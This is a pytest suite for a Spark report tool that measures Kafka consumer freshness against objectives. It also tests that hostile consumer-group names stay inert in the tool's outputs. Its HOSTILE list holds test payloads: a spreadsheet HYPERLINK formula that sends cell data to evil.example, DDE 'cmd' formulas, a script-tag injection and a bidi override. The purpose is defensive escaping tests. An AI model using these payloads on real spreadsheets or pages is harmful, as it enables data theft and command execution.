"""The Spark report over a generated history, against answers computed by hand.

The history (one sample a minute, window [T0, T0 + 60 min), a gap above 3 cycles is no data):

- cluster east, cycles at minutes 30..34 missing (the exporter was down): no data [29, 35).
  - orders-app, objective `orders-.*` ≤ 5 m for 95 %: orders[0] 60 s, orders[1] 600 s at
    minutes 10..14 else 30 s, payments[0] 120 s. Worst partition: 600 s over [10, 15), 120 s
    else. Over 5 m; no data 6 m; good 49 m of the 54 with data -> 90.74 % -> missed (and the
    window's 3 m error budget is spent). payments alone: never over -> 100 % -> met. The
    report runs with --min-coverage 90 %: 54 m of 60 with data is exactly that (the boundary),
    so both are judged.
  - billing, objective `billing` / topic `invoices` ≤ 1 m for 50 %: invoices[0] 90 s at minutes
    20..39 else 30 s; audit[0] 1 h (not judged: another topic), data loss at minutes 50..59.
    Breaches [20, 29) (then no data) and [35, 40): over 14 m, longest 9 m, good 40 m of the
    54 with data -> 74.07 % -> met.
- cluster west, idle: no objective, freshness 0, samples at T0 − 30 s + k min (the first one,
  before the window, carries its value in): measured the whole hour.
"""

from __future__ import annotations

import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from freshness_tracker.cli import main
from tests.spark.helpers import OBJECTIVES, T0, M, S, generate

pytestmark = pytest.mark.spark

@pytest.fixture(scope="module")
def report(spark: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    base = tmp_path_factory.mktemp("report")
    history, out = base / "history", base / "out"
    generate(str(history))
    (base / "objectives.conf").write_text(OBJECTIVES)
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        code = main(["spark", "report", "--history", str(history),
                     "--from", "2026-01-01T00:00:00Z", "--to", "2026-01-01T01:00Z",
                     "--objectives", str(base / "objectives.conf"), "--out", str(out),
                     "--gap-cycles", "3", "--min-coverage", "90%", "--log-level", "WARNING"])
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
    assert code == 0
    yield out


def verdict(value: Any) -> bool | None:
    return None if pd.isna(value) else bool(value)


def _by(frame: pd.DataFrame, *keys: str) -> dict[tuple[str, ...], dict[str, Any]]:
    return {tuple(r[k] for k in keys): r for r in frame.to_dict("records")}


def test_consumers_by_hand(report: Path) -> None:
    c = _by(pd.read_parquet(report / "consumers.parquet"), "cluster", "consumer")
    assert set(c) == {("east", "orders-app"), ("east", "billing"), ("west", "idle")}

    orders = c[("east", "orders-app")]
    assert (orders["samples"], orders["cycle_ms"], orders["window_ms"]) == (55, M, 60 * M)
    assert orders["p50_ms"] == 120 * S and orders["p95_ms"] == 600 * S
    assert orders["max_ms"] == 600 * S
    assert orders["over_ms"] == 5 * M and orders["no_data_ms"] == 6 * M
    assert orders["longest_breach_ms"] == 5 * M and orders["breaches"] == 1
    assert orders["good_ms"] == 49 * M
    assert orders["compliance"] == pytest.approx(49 / 54)  # over the time with data
    assert orders["over_share"] == pytest.approx(5 / 60)
    assert orders["no_data_share"] == pytest.approx(6 / 60)
    assert verdict(orders["met"]) is False and orders["verdict"] == "missed"
    assert orders["data_loss_partitions"] == 0
    assert orders["worst_partitions"].startswith("orders[1] max 10 m 00 s; payments[0] max 2 m")

    billing = c[("east", "billing")]
    assert billing["objective_ms"] == M and billing["target"] == 0.5
    assert billing["over_ms"] == 14 * M and billing["longest_breach_ms"] == 9 * M
    assert billing["breaches"] == 2 and billing["no_data_ms"] == 6 * M
    assert billing["good_ms"] == 40 * M and verdict(billing["met"]) is True
    assert billing["compliance"] == pytest.approx(40 / 54) and billing["verdict"] == "met"
    assert (billing["p50_ms"], billing["p95_ms"], billing["max_ms"]) == (30 * S, 90 * S, 90 * S)
    assert billing["data_loss_partitions"] == 1  # audit is not judged, but its loss is reported

    idle = c[("west", "idle")]
    assert verdict(idle["met"]) is None and pd.isna(idle["objective_ms"])
    assert idle["verdict"] is None
    assert idle["samples"] == 60 and idle["no_data_ms"] == 0  # the lookback sample holds in
    assert idle["max_ms"] == 0


def test_topics_by_hand_including_the_boundary(report: Path) -> None:
    t = _by(pd.read_csv(report / "topics.csv"), "cluster", "consumer", "topic")
    payments = t[("east", "orders-app", "payments")]
    assert payments["good_ms"] == 54 * M and payments["compliance"] == 1.0
    # data for exactly the 90 % of the window --min-coverage asks for: judged, and met
    assert payments["no_data_ms"] == 6 * M and payments["verdict"] == "met"
    assert verdict(payments["met"]) is True
    orders = t[("east", "orders-app", "orders")]
    assert orders["over_ms"] == 5 * M and verdict(orders["met"]) is False
    audit = t[("east", "billing", "audit")]
    assert verdict(audit["met"]) is None and audit["p50_ms"] == 3600 * S
    assert audit["data_loss_partitions"] == 1


def test_breach_episodes_data_loss_and_worst_partitions(report: Path) -> None:
    episodes = pd.read_parquet(report / "episodes.parquet")
    billing = episodes[(episodes["level"] == "consumer") & (episodes["consumer"] == "billing")]
    breaches = billing[billing["kind"] == "breach"]
    assert list(zip(breaches["start_ms"], breaches["end_ms"], breaches["peak_ms"], strict=True)) \
        == [(T0 + 20 * M, T0 + 29 * M, 90 * S), (T0 + 35 * M, T0 + 40 * M, 90 * S)]
    gaps = billing[billing["kind"] == "no_data"]
    assert list(zip(gaps["start_ms"], gaps["end_ms"], strict=True)) == [(T0 + 29 * M,
                                                                         T0 + 35 * M)]
    loss = pd.read_csv(report / "data_loss.csv")
    assert loss[["cluster", "consumer", "topic", "partition", "data_loss_samples",
                 "max_lost_records"]].values.tolist() == [["east", "billing", "audit", 0, 10,
                                                           100]]
    assert loss["first_loss"].iloc[0].startswith("2026-01-01 00:50:00")
    worst = pd.read_csv(report / "partitions.csv")
    orders = worst[worst["consumer"] == "orders-app"].sort_values("rank")
    assert orders[["topic", "partition", "max_ms"]].values.tolist() == [
        ["orders", 1, 600 * S], ["payments", 0, 120 * S], ["orders", 0, 60 * S]]


def test_the_html_report_is_self_contained(report: Path) -> None:
    page = (report / "report.html").read_text(encoding="utf-8")
    assert page.count("data:image/png;base64,") == 2
    assert "src=\"http" not in page and "<script" not in page
    assert "orders-app" in page and "missed" in page and "billing" in page
    for name in ("consumers", "topics", "partitions", "data_loss", "episodes"):
        assert (report / f"{name}.parquet").stat().st_size > 0
        assert (report / f"{name}.csv").read_text().count("\n") >= 1
    for chart in ("freshness", "timeline"):
        assert (report / "charts" / f"{chart}.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


@pytest.mark.usefixtures("restore_logging")
def test_a_short_history_is_insufficient_data_not_missed(
        spark: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The same history in a 20-hour window ending with the hour above: samples from minute
    -2 to 59, held to minute 60, less the 6 m gap: 56 m of 1200 with data (95.3 % without).
    The consumers' attainment is over those 56 m (orders-app 51 m good, billing 42 m), the
    summary says how much had no data, and neither is called missed on data the history does
    not have (orders-app's 5 m over is within 5 % of 20 h)."""
    generate(str(tmp_path / "h"))
    (tmp_path / "objectives.conf").write_text(OBJECTIVES)
    assert main(["spark", "report", "--history", str(tmp_path / "h"),
                 "--from", "2025-12-31T05:00:00Z", "--to", "2026-01-01T01:00Z",
                 "--objectives", str(tmp_path / "objectives.conf"), "--out",
                 str(tmp_path / "o"), "--log-level", "WARNING"]) == 0
    c = _by(pd.read_parquet(tmp_path / "o" / "consumers.parquet"), "cluster", "consumer")
    orders, billing = c[("east", "orders-app")], c[("east", "billing")]
    assert orders["no_data_share"] == pytest.approx(1 - 56 / 1200)
    assert orders["compliance"] == pytest.approx(51 / 56)
    assert (orders["verdict"], verdict(orders["met"])) == ("insufficient data", None)
    assert billing["compliance"] == pytest.approx(42 / 56)
    assert (billing["verdict"], verdict(billing["met"])) == ("insufficient data", None)
    line = capsys.readouterr().out.strip().splitlines()[-1]
    assert " met=0 missed=0 insufficient_data=2 " in line, line
    assert " no_data=" in line and "no_data=0.0%" not in line, line
    page = (tmp_path / "o" / "report.html").read_text(encoding="utf-8")
    assert "of the window without data" in page and 'class="missed"' not in page


def test_an_empty_window_exits_1(spark: Any, tmp_path: Path) -> None:
    generate(str(tmp_path / "h"))
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        code = main(["spark", "report", "--history", str(tmp_path / "h"),
                     "--from", "2025-01-01", "--to", "2025-01-02", "--out", str(tmp_path / "o"),
                     "--log-level", "WARNING"])
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
    assert code == 1
    assert "<p class=meta>None.</p>" in (tmp_path / "o" / "report.html").read_text()
    assert pd.read_csv(tmp_path / "o" / "consumers.csv").empty


def test_a_missing_history_is_one_line_before_any_jvm(tmp_path: Path) -> None:
    """The real command line: one line naming --history and exit 2, not a JVM start and its
    Java stack trace."""
    from devstack.exporter import run_cli

    result = run_cli("spark", "report", "--history", str(tmp_path / "nothing"), "--from",
                     "2026-01-01", "--to", "2026-01-02", "--out", str(tmp_path / "o"))
    assert result.returncode == 2, result.stderr
    assert result.stderr.splitlines() == [
        f"config error: --history: no history table at {tmp_path / 'nothing'}: it does not "
        "exist; pass the folder the exporter's history.path or `spark snapshot --history` "
        "writes to"]
    assert result.stdout == "" and not (tmp_path / "o").exists()


@pytest.mark.parametrize(("args", "key"), [
    (["report", "--history", "@file", "--from", "2026-01-01", "--to", "2026-01-02"],
     "--history"),
    (["report", "--history", "@dir", "--from", "2026-01-02", "--to", "2026-01-01"], "--to"),
    (["report", "--history", "@dir", "--from", "2026-01-01", "--to", "2026-01-02",
      "--gap-cycles", "0"], "--gap-cycles"),
    (["report", "--history", "@dir", "--from", "2026-01-01", "--to", "2026-01-02",
      "--worst", "-1"], "--worst"),
    (["report", "--history", "@dir", "--from", "2026-01-01", "--to", "2026-01-02",
      "--out", "@file"], "--out"),
    (["report", "--history", "@dir", "--from", "2026-01-01", "--to", "2026-01-02",
      "--objectives", "@dir/none.conf"], "none.conf"),
    (["snapshot", "--config", "@conf", "--history", "@file"], "--history"),
    (["snapshot", "--config", "@conf", "--every", "1m", "--cycle-time", "2026-01-01"],
     "--every"),
    (["snapshot", "--config", "@conf", "--cycles", "3"], "--cycles"),
    (["snapshot", "--config", "@conf", "--every", "1m", "--cycles", "0"], "--cycles"),
    (["snapshot", "--config", "@conf", "--max-tasks", "0"], "--max-tasks"),
    (["snapshot", "--config", "@dir/none.conf"], "none.conf"),
])  # fmt: skip
def test_every_argument_is_checked_before_spark_starts(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        args: list[str], key: str) -> None:
    from freshness_tracker.spark import session

    def no_jvm(*_args: Any, **_kwargs: Any) -> Any:
        raise AssertionError("a Spark session was asked for")

    monkeypatch.setattr(session, "get_session", no_jvm)
    (tmp_path / "file").write_text("x")
    (tmp_path / "dir").mkdir()
    (tmp_path / "c.conf").write_text('burrow.url = "http://127.0.0.1:1"\n'
                                     'clusters = [{ name = "x" }]\n'
                                     f'history.path = "{tmp_path / "h"}"\n')
    paths = {"@file": str(tmp_path / "file"), "@dir": str(tmp_path / "dir"),
             "@conf": str(tmp_path / "c.conf")}
    argv = ["spark", *[paths.get(a, a.replace("@dir", str(tmp_path / "dir"))) for a in args]]
    if args[0] == "report" and "--out" not in args:
        argv += ["--out", str(tmp_path / "out")]
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        assert main(argv) == 2
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1 and err[0].startswith("config error: ") and key in err[0], err


def test_without_matplotlib_the_report_has_its_tables_and_says_so_first(
    spark: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Only the spark extra installed: one line saying what to install, before any Spark work,
    then every table and a page without charts (it used to die after every stage)."""
    import sys

    from freshness_tracker.spark import session

    events: list[str] = []
    monkeypatch.setitem(sys.modules, "matplotlib", None)  # as if not installed
    real_session = session.get_session

    def recorded_session(*args: Any, **kwargs: Any) -> Any:
        events.append("spark")
        return real_session(*args, **kwargs)

    monkeypatch.setattr(session, "get_session", recorded_session)
    spark_log = logging.getLogger("freshness_tracker.spark")
    monkeypatch.setattr(spark_log, "warning", lambda msg, *a: events.append(msg % a if a else msg))
    generate(str(tmp_path / "h"))
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        code = main(["spark", "report", "--history", str(tmp_path / "h"),
                     "--from", "2026-01-01T00:00:00Z", "--to", "2026-01-01T01:00Z",
                     "--out", str(tmp_path / "o"), "--log-level", "WARNING"])
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
    assert code == 0
    assert events[0].startswith("matplotlib is not installed") and "[report]" in events[0]
    assert events[1] == "spark"
    page = (tmp_path / "o" / "report.html").read_text(encoding="utf-8")
    assert "data:image/png" not in page and page.count("No chart") == 2
    assert "orders-app" in page
    assert not (tmp_path / "o" / "charts").exists()
    assert not pd.read_csv(tmp_path / "o" / "consumers.csv").empty


#: Group ids Kafka accepts that would act on whoever opens the outputs: spreadsheet formulas
#: (OWASP's list), markup, mathtext (which used to fail the whole report while drawing the
#: charts), a newline (which `orders-.*` must still judge) and a bidi override.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR",
           "orders-</td><script>alert(1)</script>", "orders-$\\nosuch{x}$",
           "orders-\nnewline", "orders-\u202eevil"]


def test_hostile_group_names_stay_data_in_every_output(spark: Any, tmp_path: Path) -> None:
    """Every name is judged by the objective its regex selects, exact in the Parquet, inert in
    the CSV (a leading =, +, -, @, tab or CR quoted with '), escaped in the page, and drawn
    as written in the charts."""
    from freshness_tracker.spark.report_html import spreadsheet_safe
    from tests.spark.helpers import row, write

    for i in range(10):
        t = T0 + i * M
        write(str(tmp_path / "h"), "@east", t,
              [row("@east", name, "orders", 0, t, 600 * S if i < 3 else 30 * S)
               for name in [*HOSTILE, "x\r=1+1"]])
    (tmp_path / "objectives.conf").write_text(OBJECTIVES)
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        code = main(["spark", "report", "--history", str(tmp_path / "h"),
                     "--from", "2026-01-01T00:00:00Z", "--to", "2026-01-01T00:10Z",
                     "--objectives", str(tmp_path / "objectives.conf"), "--out",
                     str(tmp_path / "o"), "--worst", str(len(HOSTILE) + 1), "--log-level",
                     "WARNING"])
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
    assert code == 0
    out = tmp_path / "o"
    exact = pd.read_parquet(out / "consumers.parquet")
    names = [*HOSTILE, "x\r=1+1"]  # a carriage return inside: quoted, one cell, one row
    assert sorted(exact["consumer"]) == sorted(names) and set(exact["cluster"]) == {"@east"}
    judged = dict(zip(exact["consumer"], exact["objective_ms"], strict=True))
    assert {name for name, ms in judged.items() if pd.notna(ms)} == {
        n for n in HOSTILE if n.startswith("orders-")}  # the newline one too: `.` matches it
    for table in ("consumers", "topics", "partitions", "episodes"):
        csv = pd.read_csv(out / f"{table}.csv", keep_default_na=False)
        assert set(csv["cluster"]) == {"'@east"}
        listed = names if table != "episodes" else [n for n in names if pd.notna(judged[n])]
        assert sorted(set(csv["consumer"])) == sorted(spreadsheet_safe(n) for n in listed)
        assert len(csv) == len(listed) * (2 if table == "episodes" else 1), table
        for column in csv.columns:
            cells = [c for c in csv[column] if isinstance(c, str)]
            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), column
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>" not in page and "</td><script" not in page
    assert "orders-&lt;/td&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "orders-\\nnewline" in page and "orders-\\u202eevil" in page
    assert "\u202e" not in page
    for chart in ("freshness", "timeline"):
        assert (out / "charts" / f"{chart}.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("\uff1d1+1", "'\uff1d1+1"), ("\uff20A1", "'\uff20A1"),
    ("orders-app", "orders-app"), ("a=b", "a=b"), ("", ""), (None, None), (-1, -1),
    # blanks and invisible characters a spreadsheet skips before it reads the `=`
    (" =1+1", "' =1+1"), ("\u00a0=1+1", "'\u00a0=1+1"), ("\u3000+1", "'\u3000+1"),
    ("\ufeff-1", "'\ufeff-1"), ("\u200b@A1", "'\u200b@A1"), ("\x00=1", "'\x00=1"),
    (" \u200b\u00a0=1", "' \u200b\u00a0=1"), (" orders", " orders"), ("\u200b", "\u200b"),
])  # fmt: skip
def test_spreadsheet_safe_quotes_only_what_starts_a_formula(cell: Any, shown: Any) -> None:
    from freshness_tracker.spark.report_html import spreadsheet_safe

    assert spreadsheet_safe(cell) == shown
